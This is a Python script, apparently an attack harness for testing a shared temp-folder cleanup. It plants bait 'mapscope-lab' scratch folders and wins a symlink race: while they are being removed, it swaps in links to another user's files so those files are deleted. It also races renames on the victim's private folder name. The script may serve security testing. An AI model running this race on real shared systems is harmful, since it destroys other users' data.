"""A user who wants files of another one removed: puts what looks like abandoned scratch folders into a temp folder that all
users share, and swaps them for links to the other's files while they are being removed.

usage: scratchAttacker.py SHARED VICTIM PRIVATE-NAME COUNT USER

SHARED is the temp folder, PRIVATE-NAME the name of the other user's private folder in it. VICTIM is a folder of the other
user with the files 0 to COUNT - 1, and lab-abcdef/file.txt. Prints a line after every hundred swaps: how often one of the
attacker's own folders was removed, and the number of swaps so far. Ends with its standard input. Started by root, it becomes
USER, a number, before it does anything.
"""
import os
import random
import shutil
import sys
import threading
import time

shared, victim, private_name = sys.argv[1:4]
count, user = map(int, sys.argv[4:6])
os.setgroups([])
os.setresgid(user, user, user)
os.setresuid(user, user, user)
os.chdir(shared)
os.mkdir("attacker", 0o755)


def end():
    sys.stdin.read()
    os._exit(0)


threading.Thread(target=end, daemon=True).start()


def fill(folder):
    """A folder with the names that the victim's has."""
    os.makedirs(os.path.join(folder, "lab-abcdef"), 0o700)
    for name in [*map(str, range(count)), "lab-abcdef/file.txt"]:
        open(os.path.join(folder, name), "w").close()


def bait(number):
    """A folder named after a process that cannot exist, with enough files for their removal to take a while."""
    name = f"mapscope-lab-99999999-{number}"
    fill("attacker/bait/sub")
    os.rename("attacker/bait", name)
    return name


def swap_bait(name):
    """Once the first files are gone a removal has begun: from then on, the same names are the victim's. Whether it had."""
    sub = os.path.join(name, "sub")
    try:
        if len(os.listdir(sub)) > count:
            return False
        os.rename(sub, "attacker/removed")
        os.symlink(victim, sub)
        shutil.rmtree("attacker/removed")
    except FileNotFoundError:
        pass  # all of it is gone already
    return True


def swap_private():
    """Gives the private folder's own name to a folder, then to a link to the victim's, which looks like a private one."""
    try:
        for place in ["attacker/folder", "attacker/link"]:
            os.rename(place, private_name)
            time.sleep(0.001 * random.random())
            os.rename(private_name, place)
    except OSError:
        pass  # the victim's own has the name now


fill("attacker/folder")
os.symlink(victim, "attacker/link")
removed = swaps = 0
current = bait(removed)
while True:
    if swap_bait(current):
        removed += 1
        current = bait(removed)
    swap_private()
    swaps += 1
    if swaps % 100 == 0:
        print(removed, swaps, flush=True)
